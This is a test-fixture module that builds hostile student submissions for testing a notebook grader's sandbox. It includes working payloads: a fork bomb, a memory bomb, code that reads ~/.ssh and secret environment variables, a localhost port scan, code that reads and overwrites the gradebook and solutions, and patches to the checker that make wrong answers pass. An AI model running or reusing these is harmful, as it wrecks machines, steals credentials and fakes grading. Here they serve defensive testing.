"""Hostile lesson-00 submissions: what a student could hand in to fool, break or spy on the grader.

Each `Hostile` writes one submission of lesson 00 (…/00-orientation.ipynb; for one kind, a file beside it)
for the tests of the sandbox and of the guarded execution. Every kind does one thing only, on a notebook
whose answer cells hold the solution's code (RIGHT) or the first known wrong answer of each exercise
(WRONG, from tests/known_answers/lesson_00.py); `right_exercises` says which exercises hold right ones. The
hostile code sits in ordinary code cells with no nbgrader metadata, where a student would type it: after a
given exercise's check cell, or after the setup cell when it must act before every check. Those cells never
touch the answers' variables, so the answers are judged as they would be without them.

Some kinds harm the machine that runs them unsandboxed (see UNSAFE_OUTSIDE_SANDBOX): run them only inside
the sandbox.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from known_answers.lesson_00 import ANSWERS, LESSON_ID

from likes_to_ledger import notebooks, synthetic
from likes_to_ledger.paths import CourseDir

COURSE = CourseDir.find(Path(__file__).parent)
EVERY_EXERCISE = frozenset(ANSWERS)  # ex1 ... ex6
NO_EXERCISE: frozenset[str] = frozenset()

# What writes-instructor-files puts in every file it manages to overwrite (tests look for it).
TAMPER_MARK = "overwritten by a submission"

# Kinds that take the process table, the memory, the network or the grader's secrets of a machine that
# runs them without the sandbox.
UNSAFE_OUTSIDE_SANDBOX = frozenset({"fork-bomb", "memory-bomb", "network", "reads-home"})


@dataclass(frozen=True)
class Hostile:
    kind: str  # short slug, e.g. "deleted-test-cell"
    description: str  # one sentence for the closing note
    make: Callable[[Path], None]  # writes the submission file at the given path (…/00-orientation.ipynb)
    right_exercises: frozenset[str]  # exercises (ex1..ex6) whose answer cells hold RIGHT answers


def right_lesson00() -> nbformat.NotebookNode:
    """Lesson 00's student version with every exercise answered right (the solution's code)."""
    return synthetic.filled_lesson(COURSE, LESSON_ID)


def wrong_lesson00(exercises: frozenset[str] = EVERY_EXERCISE) -> nbformat.NotebookNode:
    """Lesson 00 with these exercises answered with their first known wrong answer, the others right."""
    wrong = {exercise: next(iter(ANSWERS[exercise]["wrong"].values())) for exercise in sorted(exercises)}
    return synthetic.filled_lesson(COURSE, LESSON_ID, replace=wrong)


# --- editing a notebook as a student would -----------------------------------------------------------------


def _index(nb: nbformat.NotebookNode, grade_id: str) -> int:
    for index, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return index
    raise KeyError(f"lesson {LESSON_ID} has no cell {grade_id!r}: the lesson changed, update this module.")


def _with_cell_after(
    nb: nbformat.NotebookNode, grade_id: str, source: str, outputs: list | None = None
) -> nbformat.NotebookNode:
    """The notebook with an ordinary code cell (no nbgrader metadata) right after the cell `grade_id`."""
    cell = nbformat.v4.new_code_cell(source, id=f"hostile-after-{grade_id}".replace("_", "-"))
    cell.outputs = outputs or []
    nb.cells.insert(_index(nb, grade_id) + 1, cell)
    return nb


def _nbgrader_meta(nb: nbformat.NotebookNode, grade_id: str) -> dict:
    return nb.cells[_index(nb, grade_id)].metadata["nbgrader"]


def _submission(build: Callable[[], nbformat.NotebookNode]) -> Callable[[Path], None]:
    """A `make` that writes the notebook `build` returns at the given path."""

    def make(path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        notebooks.write(build(), path)

    return make


def _course_root_guess(path: Path) -> str | None:
    """The grader's course folder, as a student who knows nbgrader's layout would guess it from where the
    submission lies (<course>/submitted/<student>/<lesson>/<lesson>.ipynb); None elsewhere."""
    parents = path.resolve().parents
    if len(parents) > 3 and parents[2].name == "submitted":
        return str(parents[3])
    return None


# --- notebooks whose cells were edited, moved or removed ------------------------------------------------


def _deleted_test_cell() -> nbformat.NotebookNode:
    nb = right_lesson00()
    del nb.cells[_index(nb, "ex3_check")]
    return nb


def _duplicated_test_cell() -> nbformat.NotebookNode:
    nb = right_lesson00()
    index = _index(nb, "ex2_check")
    twin = copy.deepcopy(nb.cells[index])
    twin.id = "ex2-check-copy"  # JupyterLab gives a copied cell an id of its own
    nb.cells.insert(index + 1, twin)
    return nb


def _reordered_cells() -> nbformat.NotebookNode:
    nb = right_lesson00()
    check_cell = nb.cells.pop(_index(nb, "ex5_check"))
    nb.cells.insert(_index(nb, "ex5_answer"), check_cell)
    return nb


def _renamed_grade_id() -> nbformat.NotebookNode:
    nb = right_lesson00()
    _nbgrader_meta(nb, "ex1_check")["grade_id"] = "ex1_check_mine"
    return nb


def _changed_points() -> nbformat.NotebookNode:
    nb = right_lesson00()
    _nbgrader_meta(nb, "ex1_check")["points"] = 100
    return nb


def _changed_cell_type() -> nbformat.NotebookNode:
    nb = right_lesson00()
    index = _index(nb, "ex6_check")
    code_cell = nb.cells[index]
    nb.cells[index] = nbformat.v4.new_markdown_cell(
        code_cell.source, metadata=code_cell.metadata, id=code_cell.id
    )
    return nb


def _edited_test() -> nbformat.NotebookNode:
    nb = wrong_lesson00(frozenset({"ex2"}))
    nb.cells[_index(nb, "ex2_check")].source = "pass"
    return nb


# --- cells that try to make wrong answers pass ---------------------------------------------------------

FAKE_CHECK = 'def check(x):\n    print("right")\n'

PATCHED_GRADE = "import course_checks\n\ncourse_checks.grade = lambda *a, **k: None\n"

PATCHED_CHECK_AND_GRADE = """\
import course_checks


def check(x):
    print("right")


course_checks.check = check
course_checks.grade = lambda *a, **k: None
"""

PATCHED_BUILTINS = """\
import builtins
import sys

true_isinstance = builtins.isinstance


def lying_isinstance(value, kinds):
    # Lie to the course's checks only, so that the rest of Python keeps working.
    if sys._getframe(1).f_code.co_filename.endswith("course_checks.py"):
        return True
    return true_isinstance(value, kinds)


builtins.isinstance = lying_isinstance
builtins.abs = lambda value: 0
"""

PATCHED_SYS_EXIT = "import sys\n\nsys.exit = lambda *a: None\nraise SystemExit\n"

PATCHED_SHOWTRACEBACK = """\
shell = get_ipython()
shell.showtraceback = lambda *a, **k: None
shell._showtraceback = lambda *a, **k: None
"""

# Also clear the error from the cell's result before the kernel replies, so the reply says "ok" too.
SILENCED_ERRORS = """\
shell = get_ipython()
shell.showtraceback = lambda *a, **k: None
shell._showtraceback = lambda *a, **k: None


def forget_errors(result):
    result.error_before_exec = None
    result.error_in_exec = None


shell.events.register("post_run_cell", forget_errors)
"""

SHADOW_MODULE = '''\
"""Everything is right."""


def check(exercise_id):
    print("right")


def grade(*args, **kwargs):
    return None


class Anything:
    """WholeNumber, Number, Table...: whatever the hidden tests import."""

    def __init__(self, *args, **kwargs):
        pass


def __getattr__(name):
    return Anything
'''


def _shadow_module(path: Path) -> None:
    _submission(wrong_lesson00)(path)
    (path.parent / "course_checks.py").write_text(SHADOW_MODULE, encoding="utf-8")


# --- files that are not the lesson's notebook ----------------------------------------------------------


def _invalid_json(path: Path) -> None:
    text = notebooks.dumps(right_lesson00())
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text[: len(text) // 2], encoding="utf-8")


def _not_a_notebook(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text('{"hello": 1}\n', encoding="utf-8")


def _with_kernel(name: str, display_name: str, language: str) -> Callable[[], nbformat.NotebookNode]:
    def build() -> nbformat.NotebookNode:
        nb = right_lesson00()
        nb.metadata.kernelspec = {"name": name, "display_name": display_name, "language": language}
        nb.metadata.language_info = {"name": language}
        return nb

    return build


# --- cells that flood, exhaust or hang the grader ------------------------------------------------------

HUGE_OUTPUT = 'line = "x" * 999\nfor _ in range(200_000):  # 200 MB\n    print(line)\n'

STORED_OUTPUT_LINES = 20_000  # of 1,000 characters: 20 MB of outputs saved in the file
OVERSIZED_OUTPUT_LINES = 60_000  # 60 MB: more than a submission may be


def _stored_huge_output(lines: int) -> Callable[[], nbformat.NotebookNode]:
    def build() -> nbformat.NotebookNode:
        text = ("x" * 999 + "\n") * lines
        output = nbformat.v4.new_output("stream", name="stdout", text=text)
        return _with_cell_after(right_lesson00(), "ex1_check", 'print("x" * 999)', outputs=[output])

    return build


# Children sleep, so the bomb grows one process at a time until fork fails; they outlive the notebook.
FORK_BOMB = """\
import os
import time

children = 0
while True:
    try:
        pid = os.fork()
    except OSError as error:
        print(f"fork failed after {children} children: {error}")
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    children += 1
"""

# bytearray() fills with zeros, so every page is really used (no lazy allocation to hide behind).
MEMORY_BOMB = """\
hoard = []
for _ in range(200):  # 200 x 256 MiB = 50 GiB
    hoard.append(bytearray(256 * 1024 * 1024))
"""

INFINITE_LOOP = "while True:\n    pass\n"

INFINITE_LOOP_CATCHING_INTERRUPT = """\
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        print("Interrupted? Not me.")
"""

KILLS_KERNEL = "import os\n\nos._exit(1)\n"


# --- cells that read or write what is not theirs -------------------------------------------------------


def _reads_solutions_source(course_root: str | None) -> str:
    guessed = f'    *glob.glob("{course_root}/solutions/*/*.ipynb"),\n' if course_root else ""
    return f"""\
import glob
from pathlib import Path

paths = [
    "../../../solutions/00-orientation/00-orientation.ipynb",
    "../../../gradebook.db",
    "../../../grader_config.py",
    *glob.glob("../../../submitted/*/00-orientation/00-orientation.ipynb"),
    *glob.glob("/work/*/solutions/00-orientation/00-orientation.ipynb"),
{guessed}]
for folder in [Path.cwd(), *Path.cwd().parents]:
    paths += glob.glob(str(folder / "solutions" / "*" / "*.ipynb"))
stolen = {{}}
for path in dict.fromkeys(paths):
    try:
        data = Path(path).read_bytes()
        stolen[path] = repr(data[:200]) if b"\\0" in data else data.decode("utf-8", "replace")
    except OSError as error:
        stolen[path] = f"{{type(error).__name__}}: {{error}}"
for path, text in stolen.items():
    print(f"--- {{path}}\\n{{text}}")
"""


def _writes_instructor_files_source(course_root: str | None) -> str:
    guessed = ""
    if course_root:
        guessed = "".join(
            f'    "{course_root}/{name}",\n'
            for name in ("gradebook.db", "solutions/00-orientation/00-orientation.ipynb")
        )
    return f"""\
from pathlib import Path

tampered = {{}}
for path in [
    "orientation_week.xlsx",
    "../../../gradebook.db",
    "../../../grader_config.py",
    "../../../solutions/00-orientation/00-orientation.ipynb",
    "../../../solutions/00-orientation/orientation_week.xlsx",
{guessed}]:
    try:
        Path(path).write_text("{TAMPER_MARK}\\n")
        tampered[path] = "overwritten"
    except OSError as error:
        tampered[path] = f"{{type(error).__name__}}: {{error}}"
print(tampered)
"""


def _with_path_cell(grade_id: str, source_for: Callable[[str | None], str]) -> Callable[[Path], None]:
    """A `make` whose hostile cell aims at the course folder guessed from where the file is written."""

    def make(path: Path) -> None:
        source = source_for(_course_root_guess(path))
        _submission(lambda: _with_cell_after(right_lesson00(), grade_id, source))(path)

    return make


# Connecting is enough to be seen: a listener a test opens on any local port records the connection.
NETWORK = """\
import socket

reached = {}
for host, port in [("1.1.1.1", 80), ("example.com", 80)]:
    try:
        with socket.create_connection((host, port), timeout=3) as connection:
            connection.sendall(f"GET / HTTP/1.0\\r\\nHost: {host}\\r\\n\\r\\n".encode())
            reached[f"{host}:{port}"] = connection.recv(200).decode("latin-1")
    except OSError as error:
        reached[f"{host}:{port}"] = f"{type(error).__name__}: {error}"
open_ports = []
for port in range(1, 65536):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.2):
            open_ports.append(port)
    except OSError:
        pass
reached["127.0.0.1"] = open_ports
print(reached)
"""

READS_HOME = """\
import os
from pathlib import Path

found = {"HOME": os.environ.get("HOME", "")}
for folder in [Path.home() / ".ssh", Path("/root"), Path("/root/.ssh")]:
    try:
        items = sorted(folder.iterdir())
    except OSError as error:
        found[str(folder)] = f"{type(error).__name__}: {error}"
        continue
    for item in items:
        try:
            found[str(item)] = item.read_text(errors="replace")[:5000] if item.is_file() else "(folder)"
        except OSError as error:
            found[str(item)] = f"{type(error).__name__}: {error}"
words = ("SECRET", "TOKEN", "PASSWORD", "KEY", "AWS_")
found["environment"] = {
    name: value for name, value in os.environ.items() if any(word in name.upper() for word in words)
}
print(found)
"""


def _after(grade_id: str, source: str, wrong: bool = False) -> Callable[[Path], None]:
    """A `make`: right (or all wrong) answers and `source` in a code cell after the cell `grade_id`."""
    start = wrong_lesson00 if wrong else right_lesson00
    return _submission(lambda: _with_cell_after(start(), grade_id, source))


HOSTILE: tuple[Hostile, ...] = (
    Hostile(
        "deleted-test-cell",
        "deleted the check cell of exercise 3",
        _submission(_deleted_test_cell),
        EVERY_EXERCISE,
    ),
    Hostile(
        "duplicated-test-cell",
        "has the check cell of exercise 2 twice",
        _submission(_duplicated_test_cell),
        EVERY_EXERCISE,
    ),
    Hostile(
        "reordered-cells",
        "moved the check cell of exercise 5 above its answer cell",
        _submission(_reordered_cells),
        EVERY_EXERCISE,
    ),
    Hostile(
        "renamed-grade-id",
        'renamed the check cell of exercise 1 to "ex1_check_mine"',
        _submission(_renamed_grade_id),
        EVERY_EXERCISE,
    ),
    Hostile(
        "changed-points",
        "gave the check cell of exercise 1 100 points",
        _submission(_changed_points),
        EVERY_EXERCISE,
    ),
    Hostile(
        "changed-cell-type",
        "turned the check cell of exercise 6 into a text cell",
        _submission(_changed_cell_type),
        EVERY_EXERCISE,
    ),
    Hostile(
        "edited-test",
        "answered exercise 2 wrong and replaced its check with `pass`",
        _submission(_edited_test),
        EVERY_EXERCISE - {"ex2"},
    ),
    Hostile(
        "fake-check-function",
        "answered everything wrong and defined a check() that always prints right",
        _after("setup", FAKE_CHECK, wrong=True),
        NO_EXERCISE,
    ),
    Hostile(
        "patched-grade",
        "answered everything wrong and replaced course_checks.grade with a function that does nothing",
        _after("setup", PATCHED_GRADE, wrong=True),
        NO_EXERCISE,
    ),
    Hostile(
        "patched-check-and-grade",
        "answered everything wrong and replaced both check() and course_checks.grade with ones that pass",
        _after("setup", PATCHED_CHECK_AND_GRADE, wrong=True),
        NO_EXERCISE,
    ),
    Hostile(
        "patched-builtins",
        "answered everything wrong and patched builtins.isinstance and builtins.abs to lie to the checks",
        _after("setup", PATCHED_BUILTINS, wrong=True),
        NO_EXERCISE,
    ),
    Hostile(
        "patched-sys-exit",
        "replaced sys.exit with a function that does nothing and raised SystemExit",
        _after("ex1_check", PATCHED_SYS_EXIT),
        EVERY_EXERCISE,
    ),
    Hostile(
        "patched-showtraceback",
        "answered everything wrong and silenced the kernel's tracebacks, so failed checks show no error",
        _after("setup", PATCHED_SHOWTRACEBACK, wrong=True),
        NO_EXERCISE,
    ),
    Hostile(
        "silenced-errors",
        "answered everything wrong, silenced the tracebacks and wiped each cell's error before the reply",
        _after("setup", SILENCED_ERRORS, wrong=True),
        NO_EXERCISE,
    ),
    Hostile(
        "invalid-json",
        "handed in a notebook file cut off halfway (not valid JSON)",
        _invalid_json,
        NO_EXERCISE,  # no answer cell can be read
    ),
    Hostile(
        "not-a-notebook",
        'handed in valid JSON that is not a notebook ({"hello": 1})',
        _not_a_notebook,
        NO_EXERCISE,
    ),
    Hostile(
        "wrong-kernel",
        'set the notebook\'s kernel to "python2", which the grader does not have',
        _submission(_with_kernel("python2", "Python 2", "python")),
        EVERY_EXERCISE,
    ),
    Hostile(
        "wrong-kernel-ir",
        'set the notebook\'s kernel to R ("ir")',
        _submission(_with_kernel("ir", "R", "R")),
        EVERY_EXERCISE,
    ),
    Hostile(
        "huge-output",
        "prints about 200 MB in a loop",
        _after("ex2_check", HUGE_OUTPUT),
        EVERY_EXERCISE,
    ),
    Hostile(
        "stored-huge-output",
        "holds 20 MB of saved outputs in the file",
        _submission(_stored_huge_output(STORED_OUTPUT_LINES)),
        EVERY_EXERCISE,
    ),
    Hostile(
        "oversized-file",
        "is a 60 MB file, its saved outputs more than a submission may be",
        _submission(_stored_huge_output(OVERSIZED_OUTPUT_LINES)),
        NO_EXERCISE,
    ),
    Hostile(
        "fork-bomb",
        "forks sleeping children until the system refuses",
        _after("ex2_check", FORK_BOMB),
        EVERY_EXERCISE,
    ),
    Hostile(
        "memory-bomb",
        "fills 50 GiB of memory, 256 MiB at a time",
        _after("ex2_check", MEMORY_BOMB),
        EVERY_EXERCISE,
    ),
    Hostile(
        "infinite-loop",
        "runs `while True: pass` after exercise 3",
        _after("ex3_check", INFINITE_LOOP),
        EVERY_EXERCISE,
    ),
    Hostile(
        "infinite-loop-catching-interrupt",
        "runs an endless loop after exercise 3 that catches KeyboardInterrupt and goes on",
        _after("ex3_check", INFINITE_LOOP_CATCHING_INTERRUPT),
        EVERY_EXERCISE,
    ),
    Hostile(
        "reads-solutions",
        "reads the solutions, the gradebook and other students' submissions, and prints them",
        _with_path_cell("ex1_check", _reads_solutions_source),
        EVERY_EXERCISE,
    ),
    Hostile(
        "writes-instructor-files",
        "overwrites the lesson's data file, the gradebook, the nbgrader configuration and the solutions",
        _with_path_cell("ex1_check", _writes_instructor_files_source),
        EVERY_EXERCISE,
    ),
    Hostile(
        "network",
        "connects to 1.1.1.1:80 and example.com, and scans every port of 127.0.0.1",
        _after("ex1_check", NETWORK),
        EVERY_EXERCISE,
    ),
    Hostile(
        "reads-home",
        "reads ~/.ssh and /root and prints the environment variables that look like secrets",
        _after("ex1_check", READS_HOME),
        EVERY_EXERCISE,
    ),
    Hostile(
        "kills-kernel",
        "ends its own kernel with os._exit(1) after exercise 4",
        _after("ex4_check", KILLS_KERNEL),
        EVERY_EXERCISE,
    ),
    Hostile(
        "shadow-module",
        "answered everything wrong and put beside the notebook a course_checks.py that passes everything",
        _shadow_module,
        NO_EXERCISE,
    ),
)

HOSTILE_BY_KIND = {hostile.kind: hostile for hostile in HOSTILE}
